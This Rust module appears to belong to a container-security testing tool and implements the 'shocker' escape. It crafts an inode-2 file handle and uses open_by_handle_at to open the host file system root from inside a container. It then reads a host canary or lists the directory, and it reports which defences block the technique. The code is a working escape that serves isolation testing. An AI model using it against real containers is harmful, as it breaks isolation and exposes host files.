//! **E26 shocker (open_by_handle_at).** Learns the file-handle format of the container's root
//! (`name_to_handle_at`), then opens the handle `{ino 2, gen 0}` — the root directory of an
//! ext2/3/4 file system — relative to it. When the rootfs is a directory on a host file system
//! this yields the **host file system's root**, outside the container; the probe then reads the
//! host canary (`--host-canary`) or lists the directory. Stopped by: capabilities
//! (DAC_READ_SEARCH), seccomp (moby: only with that capability), a separate file system for the
//! rootfs. Landlock does *not* stop it.

use crate::outcome::Layer;
use crate::state::cap;
use crate::{errno_name, sys, Ctx, Outcome, Technique};
use std::os::fd::AsRawFd;

pub const T: Technique = Technique {
    id: "shocker",
    eid: "E26",
    title: "open_by_handle_at to the host file system root",
    layers: "C (DAC_READ_SEARCH), S, separate fs",
    run,
};

#[repr(C)]
struct Handle {
    bytes: u32,
    ty: i32,
    data: [u8; 128],
}

fn run(ctx: &Ctx) -> Outcome {
    let mut h = Handle {
        bytes: 128,
        ty: 0,
        data: [0; 128],
    };
    let mut mount_id = 0;
    let root = sys::cstr("/");
    // SAFETY: h is a file_handle with 128 bytes of room; mount_id is a local int.
    let r = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            root.as_ptr(),
            &mut h as *mut Handle,
            &mut mount_id as *mut i32,
            0,
        )
    };
    if r != 0 {
        let e = sys::errno();
        if e == libc::EOPNOTSUPP {
            return Outcome::na("root file system does not support file handles");
        }
        return ctx.blocked(e, None, "name_to_handle_at(/)");
    }
    let ours = sys::stat("/").map(|s| sys::dev_ino(&s)).unwrap_or((0, 0));
    let crafted = h.ty == 1 && h.bytes == 8; // FILEID_INO32_GEN: ext2/3/4
    if crafted {
        h.data = [0; 128];
        h.data[0..4].copy_from_slice(&2u32.to_ne_bytes());
    }
    let rootfd = match sys::open("/", libc::O_RDONLY | libc::O_DIRECTORY) {
        Ok(fd) => fd,
        Err(e) => return Outcome::inconclusive(format!("open /: {}", errno_name(e))),
    };
    // SAFETY: h is a valid file_handle; the result is a new fd we wrap at once.
    let r = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            rootfd.as_raw_fd(),
            &mut h as *mut Handle,
            libc::O_RDONLY | libc::O_DIRECTORY | libc::O_CLOEXEC,
        )
    };
    let fd =
        match sys::fd_result(r) {
            Ok(fd) => fd,
            // The root inode of ext2/3/4 has generation 0, so ESTALE is a refusal: since 6.10 a
            // caller whose capability is only namespaced may decode handles below its own root only.
            Err(libc::ESTALE) if ctx.state.in_user_ns => return Outcome::blocked(
                libc::ESTALE,
                Layer::UserNamespace,
                "open_by_handle_at: ESTALE (handle outside our root refused to a user namespace)",
            ),
            Err(libc::ESTALE) => {
                return Outcome::inconclusive("open_by_handle_at: ESTALE for the crafted handle")
            }
            Err(e) => return ctx.blocked(e, Some(cap::DAC_READ_SEARCH), "open_by_handle_at"),
        };
    let st = sys::fstat(fd.as_raw_fd())
        .map(|s| sys::dev_ino(&s))
        .unwrap_or((0, 0));
    if !crafted || st == ours {
        return Outcome::exposed(format!(
            "open_by_handle_at permitted (handle type {}), but it resolved to our own root",
            h.ty
        ));
    }
    if let Some(rel) = super::host_canary_rel(ctx) {
        let c = sys::cstr(&rel);
        // SAFETY: openat relative to the fd we hold.
        let cfd =
            unsafe { libc::openat(fd.as_raw_fd(), c.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
        if let Ok(cfd) = sys::fd_result(cfd as libc::c_long) {
            let b = sys::read_head(format!("/proc/self/fd/{}", cfd.as_raw_fd()), 4096)
                .unwrap_or_default();
            if let Ok(ev) = super::host_canary::check_canary(ctx, &b) {
                return Outcome::escaped(format!(
                    "handle {{ino 2}} opened the host fs root; read /{rel}: {ev:?}"
                ));
            }
        }
    }
    Outcome::escaped(format!(
        "handle {{ino 2}} opened a directory outside the container root: {}",
        sys::list_dir(format!("/proc/self/fd/{}", fd.as_raw_fd()), 8)
    ))
}
